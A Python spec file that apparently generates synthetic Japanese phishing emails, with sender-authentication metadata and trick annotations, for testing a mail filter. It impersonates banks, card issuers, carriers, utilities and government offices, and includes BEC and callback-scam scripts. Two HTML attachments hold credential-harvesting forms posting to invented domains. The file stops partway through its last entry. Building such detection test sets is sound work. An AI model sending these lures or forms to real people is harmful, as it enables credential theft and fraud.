# Phishing specs for ja-proxy12. All phishing domains below are invented.
from make import M
from lib import *

DOC = 'hanako.s-0423@docomo.ne.jp'; EZ = 'taro.y1968@ezweb.ne.jp'; AU = 'kenji-m77@au.com'; SB = 'yui.k.0815@softbank.ne.jp'
ISB = 'mika_h.2001@i.softbank.jp'; IC = 'ryo.tnk@icloud.com'; YH = 'sachiko_n55@yahoo.co.jp'; GM = 'daisuke.ogw@gmail.com'
NF = 'kaz-w@nifty.com'; BG = 'emi.f-2010@biglobe.ne.jp'; OCN = 'hiroshi.a3@ocn.ne.jp'


def forged(mf, spf='pass', host=None):
    return dict(mf=mf, spf=spf, dkim='none', dmarc='fail', host=host or 'vps%s.%s' % (h(mf, 3), mf))


def look(dm='pass'):
    return dict(dmarc=dm)


def free(dom='gmail.com'):
    return dict(mf=dom, dkim_d=dom, host='mail-sor-f41.google.com' if dom == 'gmail.com' else 'smtp.' + dom)


P = 'phish'

M(P, 'amazon-prime-suspended-forged-from-dmarc-fail-docomo', 'Amazon.co.jp', ('Amazon.co.jp', 'account-update@amazon.co.jp'), DOC,
  'Amazonプライム会員資格の停止に関するお知らせ',
  'Amazon お客様\n\nお支払いに使用されているクレジットカードの有効期限が切れているため、プライム会員資格を一時停止しました。\n'
  '24時間以内にお支払い情報を更新いただけない場合、アカウントは制限されます。\n\n[[お支払い情報を更新する|https://amazon-co-jp.acc-verify-prime.top/ap/signin?openid=jp]]\n\n'
  'Amazon.co.jp カスタマーサービス', auth=forged('kz3-sendmail.com'),
  tricks='From spoofs amazon.co.jp; SPF passes for unrelated envelope domain; DKIM none; DMARC fail; 24h urgency; recipient on docomo.ne.jp')

M(P, 'rakuten-card-usage-check-lookalike-passing-dmarc-gmail', '楽天カード', ('楽天カード株式会社', 'info@rakuten-card-jp.info'), GM,
  '【楽天カード】カードご利用内容の確認のお願い',
  '楽天カードをご利用いただきありがとうございます。\n\nお客様のカードにおいて、第三者による不正利用の可能性がある取引を検知しました。\n'
  'ご本人様のご利用かどうか、下記よりご確認ください。\n\n■ご利用日：2025/02/03\n■ご利用金額：98,400円\n\n[[ご利用内容を確認する|https://www.rakuten-card-jp.info/e-navi/login]]\n\n'
  'ご確認いただけない場合、カードのご利用を制限させていただきます。\n\n楽天カード株式会社', cs='jis', cte='7bit', mime='html', auth=look('pass'),
  tricks='look-alike domain rakuten-card-jp.info with its own SPF/DKIM/DMARC pass; fake fraud-detection; HTML-only ISO-2022-JP')

M(P, 'smbc-account-frozen-sms-style-outlook-sender-softbank', '三井住友銀行', ('三井住友銀行', 'smbc-kinkyu.2025@outlook.jp'), SB,
  '【三井住友銀行】取引を一時制限しました',
  '【三井住友銀行】お客様の口座で不審な取引を検知したため、取引を一時制限しました。解除はこちら https://smbc-direct.kaijo-tetsuzuki.com/ ',
  mime='plain', cte='8bit', auth=dict(mf='outlook.jp', dkim_d='outlook.jp', host='TYVP286CU001.outbound.protection.outlook.com'),
  tricks='SMS-style one-liner; free-mail sender (outlook.jp) with display name of the bank; bank look-alike subdomain host')

M(P, 'aeon-card-reauth-forged-from-shiftjis-html-ezweb', 'イオンカード', ('イオンカード', 'info@aeon.co.jp'), EZ,
  '【重要】イオンカード 本人認証サービス再設定のお願い',
  'イオンカードをご利用のお客様へ\n\nセキュリティ強化のため、本人認証サービス（3Dセキュア）の再設定をお願いしております。\n'
  '期限：2025年3月31日\n期限までに手続きがない場合、カードのご利用を停止いたします。\n\n[[https://www.aeon.co.jp/login/|https://aeon-co-jp.3ds-saisettei.xyz/login/]]\n\nイオンクレジットサービス株式会社',
  cs='sjis', cte='8bit', mime='html', auth=forged('hkt-mail.cn', spf='softfail'),
  tricks='UNSURE: aeon.co.jp as sender; forged From; DMARC fail; link text shows official URL while href goes elsewhere; Shift_JIS 8bit HTML-only')

M(P, 'mufg-jis-cp932-circled-digits-raw-jis-display-name', '三菱UFJ銀行', ('三菱ＵＦＪ銀行㈱', 'direct@bk-mufg-jp.com'), NF,
  '三菱ＵＦＪ銀行　お取引目的等のご確認',
  '三菱ＵＦＪ銀行をご利用いただき、誠にありがとうございます。\n\n犯罪収益移転防止法に基づき、以下の項目についてご確認をお願いいたします。\n'
  '　①ご職業\n　②お取引の目的\n　③ご本人確認書類\n\n下記URLよりご回答ください。\nhttps://bk-mufg-jp.com/kakunin/index.php?id=88123\n\n'
  '※ご回答がない場合、お取引を制限させていただく場合がございます。\n㈱三菱ＵＦＪ銀行',
  cs='jis', cte='7bit', mime='plain', raw_name=True, auth=look('none'),
  tricks='CP932 extension chars ①②③㈱ in ISO-2022-JP; raw (unencoded) JIS display name; look-alike bk-mufg-jp.com, DMARC none; AML-check pretext')

M(P, 'myjcb-zero-width-subject-forged-icloud', 'JCB', ('MyJCB', 'mail@qa.jcb.co.jp'), IC,
  'My\u200bJCB　ご利用\u200b確認のお願い',
  'MyJCBをご利用のお客様\n\nお客様のカードで高額なご利用がありました。\nお心当たりがない場合は、至急ご確認ください。\n\n[[MyJCBにログイン|https://my-jcb.cc-riyou-kakunin.net/iss-pc/member/]]\n\nJCB\u200bカード',
  cs='utf-8', cte='quoted-printable', auth=forged('mailer-ff3.ru', spf='neutral'),
  tricks='zero-width spaces inside brand name in subject and body; forged qa.jcb.co.jp with DMARC fail; iCloud multi-line Authentication-Results')

M(P, 'yamato-absent-notice-mother-forwards-iphone', 'ヤマト運輸', ('ヤマト運輸', 'info@kuroneko-yamato-jp.com'), 'yoko.s.1955@icloud.com',
  'お荷物お届けのお知らせ（ご不在）',
  'お客様のお荷物をお届けにあがりましたが、ご不在のため持ち帰りました。\n再配達のご依頼は下記よりお願いします。\n\n[[再配達受付|https://kuroneko-yamato-jp.com/saihaitatsu/?no=4728-1190-3365]]\n\n伝票番号：4728-1190-3365\nヤマト運輸株式会社',
  mime='plain', cte='base64', auth=look('none'),
  wrap=dict(kind='iphone', by=('山田陽子', 'yoko.s.1955@icloud.com'), to='a.yamada.work@gmail.com', note='これ何か届いてるのかな？\n押して大丈夫？',
            auth=dict(host='p00-icloudmta-asmtp-us-west-2a-100-percent-2.p00-icloudmta-asmtp-vip.icloud-mail-production.svc.kube.us-west-2a.k8s.cloud.apple.com', dkim_d='icloud.com'),
            desc='mother forwards phish from iPhone (転送されたメッセージ) with note asking if it is safe'),
  tricks='look-alike domain kuroneko-yamato-jp.com')

M(P, 'sagawa-redelivery-qr-code-image-yahoo', '佐川急便', ('佐川急便株式会社', 'no-reply@sagawa-exp-jp.com'), YH,
  '【佐川急便】お荷物の配達について',
  'いつも佐川急便をご利用いただきありがとうございます。\n\nお荷物の宛先住所に不備があり、配達できませんでした。\n下記のQRコードをスマートフォンで読み取り、住所の確認をお願いします。\n\n'
  '（QRコードが表示されない場合）[[こちら|https://sagawa-exp-jp.com/check?tr=3019]]\n\n佐川急便株式会社',
  cs='utf-8', cte='base64', mime='html', related=True,
  pre='<p style="text-align:center"><img src="cid:logo@sagawa-redelivery-qr-code-image-yahoo" width="220" height="220" alt="QRコード"></p>\n',
  auth=look('none'), tricks='QR code image (inline cid, placeholder PNG) as main call to action; look-alike domain; address-problem lure')

M(P, 'japanpost-customs-fee-euc-jp-biglobe', '日本郵便', ('日本郵便', 'notice@japanpost-kanzei.com'), BG,
  '国際郵便物の関税お支払いのお願い',
  '日本郵便です。\n\nお客様宛の国際郵便物が税関に留め置かれています。\n関税（２４０円）のお支払いが確認でき次第、配達いたします。\n\n'
  'お支払い：https://japanpost-kanzei.com/pay/?id=JP8830021\n\nお支払い期限：本メール受信後４８時間以内\n\n日本郵便株式会社',
  cs='euc', cte='8bit', mime='plain', auth=look('none'),
  tricks='EUC-JP 8bit text/plain; small customs-fee card harvest; invented domain japanpost-kanzei.com')

M(P, 'nta-etax-refund-forged-go-jp-nifty', '国税庁', ('国税庁', 'info@e-tax.nta.go.jp'), 'k.wata-2@nifty.com',
  '【国税庁】所得税の還付金についてのお知らせ',
  '納税者様\n\n令和６年分の所得税還付金（32,100円）の受け取り手続きが完了していません。\n下記より受取口座をご登録ください。\n\n[[還付金受取手続き|https://e-tax-nta.kanpu-uketori.com/refund]]\n\n国税庁　e-Tax',
  cs='jis', cte='7bit', mime='alt', auth=forged('mta.send-jp-mail.net', spf='pass'),
  tricks='forged government go.jp sender, DMARC fail; tax refund lure; ISO-2022-JP alternative')

M(P, 'mynaportal-health-insurance-card-lookalike', 'マイナポータル', ('マイナポータル', 'support@mynaportal-kakunin.com'), DOC,
  '【マイナポータル】マイナ保険証の利用登録が未完了です',
  'マイナンバーカードの健康保険証利用登録が完了していません。\n2025年12月以降、従来の保険証は使用できなくなります。\n\n'
  '下記より本日中に登録を完了してください。\n[[登録手続きへ進む|https://mynaportal-kakunin.com/hoken/]]\n\nデジタル庁　マイナポータル運営事務局',
  auth=look('none'), tricks='government-themed look-alike; deadline pressure about health-insurance card transition')

M(P, 'tepco-unpaid-callback-number-no-link', '東京電力エナジーパートナー', ('東京電力EP 料金センター', 'ryokin-center@tepco-ryokin.jp'), OCN,
  '【重要】電気料金未払いによる送電停止のお知らせ',
  'ご契約者様\n\n電気料金（２か月分）のお支払いが確認できておりません。\n本日17時までにご連絡がない場合、送電を停止いたします。\n\n'
  'お問い合わせ：料金センター　050-3188-42XX（受付 9:00-20:00）\n\n東京電力エナジーパートナー株式会社',
  mime='plain', cte='base64', cs='utf-8', auth=look('none'),
  tricks='call-back scam: no link, phone number only (digits masked XX); supply cut-off threat; utility impersonation')

M(P, 'docomo-dpoint-expire-to-docomo-subscriber', 'NTTドコモ', ('ドコモ', 'info@docomo-dpoint-jp.com'), 'm.kato-77@docomo.ne.jp',
  '【dポイント】失効予定ポイントのお知らせ',
  'いつもドコモをご利用いただきありがとうございます。\n\nお客様の保有dポイントのうち 12,850pt が 2025年6月30日に失効します。\n'
  '下記よりポイント交換手続きを行ってください。\n\n[[dポイントクラブにログイン|https://docomo-dpoint-jp.com/login/daccount]]\n\nNTTドコモ',
  cs='sjis', cte='base64', mime='alt', auth=look('none'),
  tricks='carrier impersonation delivered to a docomo.ne.jp subscriber; point-expiry lure; Shift_JIS base64')

M(P, 'au-pay-card-lock-ezweb-machine-translated', 'au PAY カード', ('au PAY カード', 'service@aupay-card-kddi.com'), EZ,
  'au PAY カード ご利用制限のお知らせ',
  'お客様のアカウントは、セキュリティ上の理由によりロックされています。\nお客様の情報を確認するため、以下のリンクをクリックして確認してください。\n'
  'あなたの情報が確認できない場合、アカウントは永久に使用できなくなります。\n\n[[今すぐ確認|https://aupay-card-kddi.com/verify]]\n\nKDDI株式会社 au PAY カード株式会社',
  cs='utf-8', cte='8bit', mime='html', auth=look('none'),
  tricks='machine-translated Japanese (あなたの情報/永久に); HTML-only UTF-8 8bit; look-alike domain')

M(P, 'softbank-bill-unpaid-i-softbank-sms-style', 'ソフトバンク', ('SoftBank', 'softbank.kakunin@yahoo.co.jp'), ISB,
  '料金未納のお知らせ',
  '【SoftBank】ご利用料金のお支払いが確認できません。本日中にお手続きください。https://mysoftbank-pay.com/ryokin',
  mime='plain', cte='base64', auth=dict(mf='yahoo.co.jp', dkim_d='yahoo.co.jp', host='sonicgw.mail.yahoo.co.jp'),
  tricks='SMS-style text to i.softbank.jp; free-mail (yahoo.co.jp) sender with SoftBank display name')

M(P, 'icloud-storage-full-photos-deleted-icloud', 'Apple iCloud', ('iCloud', 'noreply@icloud-storage-jp.com'), IC,
  'iCloudストレージの容量がいっぱいです：写真とビデオは削除されます',
  'お客様のiCloudストレージはいっぱいです。\nお支払い方法に問題があったため、ストレージプランを更新できませんでした。\n\n'
  'あなたの写真とビデオは 2025/05/20 に削除されます。\n\n[[ストレージを50GBに無料でアップグレード|https://icloud-storage-jp.com/upgrade?u=r.tnk]]\n\nApple',
  mime='html', cte='quoted-printable', auth=look('pass'),
  tricks='storage-full fear lure sent to an icloud.com mailbox; look-alike sender with full SPF/DKIM/DMARC pass')

M(P, 'netflix-payment-update-machine-translated-gmail', 'Netflix', ('Netflix', 'info@netflix-account-help.com'), GM,
  'お支払いに問題があります - アカウントは保留中です',
  'こんにちは、\n\n私たちはあなたの次の請求サイクルのためにあなたの支払い情報を検証することができませんでした。\n'
  'サービスの中断を避けるために、あなたの支払いの詳細を更新してください。\n\n[[アカウントを更新する|https://netflix-account-help.com/jp/billing]]\n\n-Netflixチーム',
  mime='alt', cte='base64', auth=look('none'),
  tricks='stiff machine-translated Japanese; streaming billing lure')

M(P, 'paypay-refund-procedure-lookalike-softbank', 'PayPay', ('PayPay', 'campaign@paypay-henkin.jp'), SB,
  '【PayPay】返金手続きのご案内',
  'PayPayをご利用いただきありがとうございます。\n\nシステム障害により二重決済が発生したお客様に、返金（3,980円）を行っております。\n'
  '返金を受け取るには、下記よりPayPayアカウントにログインしてください。\n\n[[返金を受け取る|https://paypay-henkin.jp/refund/login]]\n\nPayPay株式会社',
  cs='jis', cte='7bit', mime='plain', auth=look('none'), tricks='refund scam (double charge); invented .jp look-alike')

M(P, 'line-account-verify-gmail-freemail-sender-yahoo', 'LINE', ('LINE運営事務局', 'line.support.jp2025@gmail.com'), YH,
  'LINEアカウントの本人確認',
  'LINEをご利用いただきありがとうございます。\n\nお客様のアカウントが他の端末からログインされました。\nアカウント保護のため、下記より本人確認をお願いします。\n\n'
  'https://line-me-auth.com/verify\n\nLINEヤフー株式会社',
  mime='plain', cte='base64', auth=free(), tricks='free-mail gmail.com sender with brand display name, SPF/DKIM/DMARC pass for gmail.com')

M(P, 'microsoft365-password-expire-html-attachment-ocn', 'Microsoft 365', ('Microsoft 365 管理センター', 'admin@m365-notice-center.com'), OCN,
  'パスワードの有効期限が本日切れます',
  'ご利用中の Microsoft 365 アカウント（hiroshi.a3@ocn.ne.jp）のパスワードは本日有効期限が切れます。\n\n'
  '現在のパスワードを維持するには、添付のファイルを開いて確認してください。\n\nMicrosoft 365 チーム',
  mime='plain', cte='base64',
  attach=[('text/html', ('<html><head><meta charset="utf-8"><title>Microsoft サインイン</title></head><body>'
           '<form action="https://m365-notice-center.com/p/collect.php" method="post"><p>パスワードを確認してください</p>'
           '<input name="email" value="hiroshi.a3@ocn.ne.jp"><input type="password" name="pw"><button>サインイン</button></form></body></html>').encode(), 'パスワード更新_Microsoft.html')],
  auth=look('none'), tricks='HTML attachment with credential form posting to invented domain; Japanese attachment filename (RFC2047 in param)')

M(P, 'mercari-sales-withdraw-fullwidth-display-url-au', 'メルカリ', ('メルカリ事務局', 'no-reply@mercari-jimukyoku.com'), AU,
  '【メルカリ】売上金の振込申請期限が近づいています',
  'メルカリをご利用いただきありがとうございます。\n\nお客様の売上金（18,620円）の振込申請期限が近づいています。\n期限を過ぎると売上金は失効します。\n\n'
  '[[ｈｔｔｐｓ：／／ｊｐ．ｍｅｒｃａｒｉ．ｃｏｍ／ｍｙｐａｇｅ|https://mercari-jimukyoku.com/mypage/sales]]\n\n株式会社メルカリ',
  mime='html', cte='base64', auth=look('none'), tricks='full-width characters in the displayed URL (ｈｔｔｐｓ：／／ｊｐ．ｍｅｒｃａｒｉ．ｃｏｍ); href to invented domain')

M(P, 'bec-president-urgent-transfer-gmail-reply-to', '（BEC・社長なりすまし）', ('北村 誠', 'kitamura.makoto.ceo@gmail.com'), 'keiri@mitsuba-seiki.co.jp',
  '至急のお願い',
  '経理部　ご担当者様\n\nお疲れ様です。北村です。\n現在会議中のため、メールで失礼します。\n\n本日中に取引先へ前払いの送金が必要になりました。\n'
  '金額と振込先はこの後お送りしますので、対応可能か至急返信をください。\n\nこの件は社内でもまだ内密にお願いします。\n\n北村',
  mime='plain', cte='7bit', cs='jis', auth=free(), reply_to='kitamura.office.jp@outlook.com',
  tricks='BEC: CEO impersonation from free mail, Reply-To to a different free-mail box, secrecy and urgency, no link; recipient company (fictional)')

M(P, 'invoice-password-zip-compromised-supplier-reply', '（取引先なりすまし・パスワード付きZIP）', ('営業部 佐々木', 'sasaki@tokai-shoji-net.co.jp'), 'tanaka@mitsuba-seiki.co.jp',
  'Re: 3月分ご請求書の件',
  '田中様\n\nいつもお世話になっております。\n先日ご依頼いただきました請求書を添付にてお送りいたします。\n\nパスワード：Tk20250318\n\nご確認のほどよろしくお願いいたします。\n\n'
  '-----\n東海商事株式会社\n営業部　佐々木',
  mime='plain', cs='jis', cte='7bit',
  attach=[('application/zip', fakezip('seikyu', '請求書_202503.xlsm'), '請求書_202503.zip')],
  auth=dict(host='www3.tokai-shoji-net.co.jp'), tricks='compromised/look-alike supplier domain passing SPF/DKIM/DMARC; Re: thread hijack; encrypted ZIP with password in body (macro document inside)')

M(P, 'amazon-lure-from-compromised-school-domain-dkim-pass', 'Amazon.co.jp', ('Amazon.co.jp', 'jimu-office@nishiyama-gakuen.ac.jp'), BG,
  'お客様のAmazonアカウントは停止されました',
  'お客様のアカウントで異常なアクティビティが検出されたため、アカウントを一時的に停止しました。\n\n'
  '[[アカウントを復元する|https://amzn-restore-jp.net/ap/signin]]\n\n48時間以内に確認されない場合、アカウントは完全に削除されます。\n\nAmazon.co.jp',
  cs='utf-8', cte='base64', mime='html', auth=dict(host='mx.nishiyama-gakuen.ac.jp'),
  tricks='compromised school account (fictional ac.jp) passes SPF/DKIM/DMARC; display name Amazon.co.jp does not match domain')

M(P, 'yahoo-japan-id-login-restricted-forged-sjis', 'Yahoo! JAPAN', ('Yahoo! JAPAN', 'no-reply@mail.yahoo.co.jp'), YH,
  '【Yahoo! JAPAN】ログインが制限されました',
  'Yahoo! JAPAN IDをご利用のお客様\n\n不正なログインの試みを検知したため、お客様のYahoo! JAPAN IDの利用を制限しました。\n\n'
  '[[本人確認を行う|https://login-yahoo-co-jp.id-hogo.com/config/login]]\n\n※このメールは送信専用です。',
  cs='sjis', cte='quoted-printable', mime='alt', auth=forged('send.id-hogo.com', spf='fail'),
  tricks='forged yahoo.co.jp From delivered to yahoo.co.jp mailbox; SPF fail and DMARC fail; Shift_JIS QP')

M(P, 'ekinet-points-expire-lookalike-crlf', 'えきねっと', ('えきねっと', 'info@eki-net-jre.com'), GM,
  '【えきねっと】JRE POINT失効のお知らせ',
  'えきねっとをご利用いただきありがとうございます。\n\nお客様のJRE POINT 4,200ポイントが今月末で失効します。\nポイントを保持するには、アカウント情報を更新してください。\n\n'
  '[[えきねっとにログイン|https://eki-net-jre.com/Personal/member/login]]\n\n東日本旅客鉄道株式会社',
  cs='jis', cte='7bit', mime='alt', nl='crlf', auth=look('none'), tricks='rail/point lure; look-alike eki-net-jre.com; CRLF line endings')

M(P, 'mobile-suica-card-expired-qp-html', 'モバイルSuica', ('モバイルSuica', 'support@mobilesuica-jp.net'), ISB,
  '【モバイルSuica】登録クレジットカードの有効期限切れ',
  'モバイルSuicaをご利用のお客様\n\nご登録のクレジットカードの有効期限が切れています。\nこのままではチャージ・定期券の購入ができなくなります。\n\n'
  '[[カード情報を更新|https://mobilesuica-jp.net/mypage/card]]\n\nJR東日本　モバイルSuicaサポートセンター',
  cte='quoted-printable', mime='html', auth=look('none'), tricks='HTML-only QP; card re-registration lure; to i.softbank.jp')

M(P, 'ana-mileage-expire-lookalike-gmail', 'ANA', ('ANAマイレージクラブ', 'amc@ana-mileage-club.net'), GM,
  '【ANA】有効期限切れ間近のマイルのお知らせ',
  'ANAマイレージクラブ会員様\n\n2025年8月末で有効期限を迎えるマイル（15,300マイル）がございます。\n今なら期限延長のお手続きが可能です。\n\n'
  '[[マイル期限延長の手続き|https://ana-mileage-club.net/amc/extend]]\n\n全日本空輸株式会社',
  auth=look('pass'), tricks='airline mileage expiry lure; attacker domain with SPF/DKIM/DMARC pass')

M(P, 'nintendo-account-unauthorized-login-euc', 'Nintendo', ('ニンテンドーアカウント', 'no-reply@nintendo-account-support.com'), NF,
  'ニンテンドーアカウントへの不正なログインについて',
  'ニンテンドーアカウントに、通常と異なる環境からのサインインがありました。\n\n日時：2025/07/12 03:14\n地域：ベトナム\n\n'
  'お心当たりがない場合は、下記URLからパスワードを変更してください。\nhttps://nintendo-account-support.com/password/reset\n\n任天堂株式会社',
  cs='euc', cte='base64', mime='plain', auth=look('none'), tricks='game-account takeover lure; EUC-JP base64')

M(P, 'steam-friend-accidental-report-compromised-gmail', 'Steam', ('ゆうき', 'yuki.gamer0912@gmail.com'), 'sho.h.2008@icloud.com',
  'ごめん、間違えて通報しちゃった',
  'ごめん！間違えてお前のSteamアカウントを通報しちゃった。\nこのままだとアカウントがBANされるらしい。\n\nSteamのサポートの人に連絡して事情説明してほしい\n'
  'ここから連絡できる → https://steamcommunity-support.help/id/support_agent_kei\n\nほんとごめん',
  mime='plain', cte='8bit', auth=free(), tricks='compromised friend free-mail account; "accidental report" Steam scam; teenager recipient on icloud.com')

M(P, 'nhk-receiving-fee-unpaid-callback-sms-style', 'NHK', ('NHK受信料', 'nhk-jushinryo@outlook.jp'), DOC,
  'NHK受信料未払いのお知らせ',
  '【NHK】受信料のお支払いが確認できません。法的手続きに移行する前に、至急お電話ください。 NHK受信料窓口 0120-98-XXXX',
  cs='sjis', cte='8bit', mime='plain', auth=dict(mf='outlook.jp', dkim_d='outlook.jp', host='TYCP286CU004.outbound.protection.outlook.com'),
  tricks='SMS-style callback scam with legal threat; free-mail outlook.jp sender; Shift_JIS 8bit')

M(P, 'tokyo-gas-overpayment-refund-lookalike', '東京ガス', ('myTOKYOGAS', 'info@mytokyogas-henkin.com'), OCN,
  '【東京ガス】過払い金返金のご案内',
  'いつも東京ガスをご利用いただきありがとうございます。\n\n料金の再計算の結果、お客様に過払い金（5,240円）が発生しております。\n'
  '返金をご希望の場合、下記より口座情報をご登録ください。\n\n[[返金手続き|https://mytokyogas-henkin.com/refund]]\n\n東京ガス株式会社',
  cs='jis', cte='7bit', auth=look('none'), tricks='utility refund scam collecting bank details')

M(P, 'tokyo-water-bureau-unpaid-forged-lg-jp', '東京都水道局', ('東京都水道局', 'info@waterworks.metro.tokyo.lg.jp'), 'emi.f-2010@biglobe.ne.jp',
  '【東京都水道局】水道料金の未払いについて（最終通知）',
  'お客様各位\n\n水道料金の未払いが続いております。\n期日までにお支払いがない場合、給水を停止いたします。\n\n'
  'オンライン支払い：[[https://www.waterworks.metro.tokyo.lg.jp/|https://tokyo-suido-pay.com/pay?id=77102]]\n\n東京都水道局　お客さまセンター',
  cs='utf-8', cte='quoted-printable', mime='alt', auth=forged('tokyo-suido-pay.com', spf='pass'),
  tricks='forged municipal lg.jp sender (DMARC fail); official URL as link text with different href; water cut-off threat')

M(P, 'yucho-direct-self-forwarded-docomo-to-gmail', 'ゆうちょ銀行', ('ゆうちょ銀行', 'info@jp-bank-yucho.net'), 'hanako.s-0423@docomo.ne.jp',
  '【ゆうちょ銀行】ゆうちょダイレクト利用停止のお知らせ',
  'ゆうちょダイレクトをご利用のお客様\n\nセキュリティ強化のため、お客様情報の再登録が必要です。\n再登録がない場合、ゆうちょダイレクトの利用を停止します。\n\n'
  '[[再登録はこちら|https://jp-bank-yucho.net/direct/login]]\n\n株式会社ゆうちょ銀行',
  cs='sjis', mime='plain', cte='base64', auth=look('none'),
  wrap=dict(kind='android', by=('', 'hanako.s-0423@docomo.ne.jp'), to='hanako.sato.0423@gmail.com', note='PCで見る用',
            auth=dict(host='mfsmax.docomo.ne.jp', dkim='pass', dkim_d='docomo.ne.jp'), desc='recipient forwards the phish from her docomo mailbox to her own Gmail (-------- 転送メッセージ --------)'),
  tricks='look-alike jp-bank-yucho.net')

M(P, 'sbi-securities-colleague-reply-kore-ayashikunai', 'SBI証券', ('SBI証券', 'info@sbisec-kakunin.com'), 'm.ito@mitsuba-seiki.co.jp',
  '【SBI証券】重要なお知らせ：取引パスワードの再設定',
  'SBI証券をご利用のお客様\n\n第三者による不正アクセスが多発しているため、全てのお客様に取引パスワードの再設定をお願いしております。\n\n'
  '[[再設定はこちら|https://sbisec-kakunin.com/ETGate/]]\n\n株式会社SBI証券',
  auth=look('none'),
  wrap=dict(kind='reply', by=('伊藤 舞', 'm.ito@mitsuba-seiki.co.jp'), to='it-support@mitsuba-seiki.co.jp',
            note='情シスさん\n\nこれ怪しくないですか？個人で口座持ってるんですが、会社のアドレスに来ました。\nリンクは押してません。\n\n伊藤', mailer='Microsoft Outlook 16.0',
            auth=dict(host='mail.mitsuba-seiki.co.jp'), desc='colleague replies quoting the phish with "これ怪しくないですか？" (> quoting)'),
  tricks='securities account takeover wave 2025; look-alike sbisec-kakunin.com')

M(P, 'rakuten-point-lure-posted-to-tennis-club-ml', '楽天', ('楽天市場', 'tennis-club-ml-member@yahoo.co.jp'), 'daisuke.ogw@gmail.com',
  '楽天ポイント 10,000pt プレゼントのお知らせ',
  '楽天会員の皆様\n\n楽天市場28周年記念として、抽選で10,000ポイントをプレゼントしています。\n受け取りには下記からログインしてください。\n\n'
  'https://rakuten-28th-campaign.com/login\n\n楽天グループ株式会社',
  cs='jis', cte='7bit', mime='plain', auth=free('yahoo.co.jp'),
  wrap=dict(kind='ml', mldom='freeml-like.jp', mlname='minami-tennis', tag='[minami-tennis:1284]',
            footer='\n\n----------------------------------------\n南町テニスクラブ メーリングリスト\n退会：minami-tennis-request@freeml-like.jp\n----------------------------------------\n',
            kw=dict(cs='jis', cte='7bit'), desc='compromised member posts phish to a club mailing list: subject tag, footer, List-Id, DMARC fail after ML'),
  tricks='point-campaign lure')

M(P, 'amazon-order-outlook-fw-by-husband-en-header', 'Amazon.co.jp', ('Amazon.co.jp', 'order-update@amazon-jp-orders.com'), 'takeshi.k@kanto-denki.co.jp',
  'ご注文の確認：iPhone 16 Pro 256GB',
  'Amazon.co.jpをご利用いただきありがとうございます。\n\n注文番号：249-8812207-1193\n商品：iPhone 16 Pro 256GB\n合計：189,800円\n\n'
  'この注文に心当たりがない場合は、24時間以内にキャンセル手続きを行ってください。\n[[注文をキャンセル|https://amazon-jp-orders.com/gp/cancel]]',
  auth=look('none'),
  wrap=dict(kind='outlook_en', by=('Kobayashi Takeshi', 'takeshi.k@kanto-denki.co.jp'), to='kobayashi.naoko@yahoo.co.jp',
            note='会社のメールに来たんだけど、頼んだ？', auth=dict(host='mail.kanto-denki.co.jp'),
            desc='husband forwards from Outlook (English -----Original Message----- headers) to wife with a one-line note'),
  tricks='fake high-value order / cancel lure')

M(P, 'eposcard-limit-reached-forged-from-midsplit-subject', 'エポスカード', ('エポスカード', 'info@01epos.jp'), AU,
  '【エポスカード】ご利用限度額に達したため一時停止しております',
  'エポスカードをご利用のお客様\n\nご利用可能枠の確認のため、カードのご利用を一時停止しております。\n以下のURLから確認を行ってください。\n\n'
  'https://eposcard-net.kakunin-center.com/\n\n株式会社エポスカード',
  midsplit=True, mime='plain', cte='base64', auth=forged('mail.kakunin-center.com', spf='softfail'),
  tricks='UNSURE: 01epos.jp forged as From; subject encoded-words split mid-character (UTF-8 bytes); DMARC fail')

M(P, 'viewcard-reward-points-lookalike-sjis-html', 'ビューカード', ('ビューカード', 'vw-info@viewcard-point.com'), EZ,
  '【ビューカード】ご利用確認のお願い',
  'ビューカードをご利用いただきありがとうございます。\n\n弊社では不正利用の防止を目的としてモニタリングを行っております。\nお客様のカードご利用について確認させていただきたいお取引がございます。\n\n'
  '[[VIEW\'s NETでご確認ください|https://viewcard-point.com/viewsnet/]]\n\n株式会社ビューカード',
  cs='sjis', cte='base64', mime='html', auth=look('none'), tricks='Shift_JIS base64 HTML-only; monitoring pretext')

M(P, 'yodobashi-account-lock-gmail', 'ヨドバシカメラ', ('ヨドバシ・ドット・コム', 'info@yodobashi-account.com'), GM,
  '【ヨドバシ・ドット・コム】アカウントロックのお知らせ',
  'ヨドバシ・ドット・コムをご利用いただきありがとうございます。\n\nパスワード入力の誤りが複数回あったため、アカウントをロックしました。\nロック解除はこちらから：\n'
  '[[https://www.yodobashi.com/|https://yodobashi-account.com/unlock]]\n\n株式会社ヨドバシカメラ',
  auth=look('none'), tricks='EC account lock; official URL as anchor text')

M(P, 'saison-card-netanswer-forged-jis-crlf', 'セゾンカード', ('セゾンカード', 'info@saisoncard.co.jp'), BG,
  '【セゾンカード】お支払い方法の確認のお願い',
  'セゾンカードをご利用のお客様\n\nお客様のカードに関して、お支払い口座の確認が取れておりません。\nNetアンサーよりご確認いただきますようお願いいたします。\n\n'
  'https://saison-netanswer.kakunin-jp.com/\n\n株式会社クレディセゾン',
  cs='jis', cte='7bit', mime='plain', nl='crlf', auth=forged('kakunin-jp.com', spf='pass'),
  tricks='forged card-company From (DMARC fail), envelope on attacker domain; CRLF')

M(P, 'amex-jp-account-review-callback-plus-link', 'アメリカン・エキスプレス', ('American Express', 'AmericanExpress@welcome.aexp-japan.com'), GM,
  'アメリカン・エキスプレス　アカウントの確認が必要です',
  'カード会員様\n\nお客様のアカウントで通常と異なるご利用を確認しました。\nオンラインでのご確認、またはお電話でのご連絡をお願いします。\n\n'
  '[[オンラインで確認|https://aexp-japan.com/jp/account/login]]\n電話：03-6625-XXXX（24時間）\n\nアメリカン・エキスプレス',
  auth=look('pass'), tricks='look-alike with SPF/DKIM/DMARC pass; both link and call-back number')

M(P, 'sony-bank-password-reset-html-attach-form', 'ソニー銀行', ('ソニー銀行', 'info@sonybank-security.net'), ISB,
  '【ソニー銀行】セキュリティ更新のお知らせ',
  'ソニー銀行をご利用いただきありがとうございます。\n\n添付のフォームよりお客様情報の更新をお願いいたします。\n本メールの有効期限は72時間です。\n\nソニー銀行株式会社',
  mime='plain', cte='base64',
  attach=[('text/html', '<html><body><form action="https://sonybank-security.net/upd"><input name="kouza"><input name="pin" type="password"><input type="submit" value="送信"></form></body></html>'.encode(), 'security_update.htm')],
  auth=look('none'), tricks='HTML attachment form asking for account number and PIN')

M(P, 'etc-usage-unpaid-lookalike-docomo', 'ETC利用照会サービス', ('ETC利用照会サービス', 'etc-meisai@etc-riyou-shokai.com'), DOC,
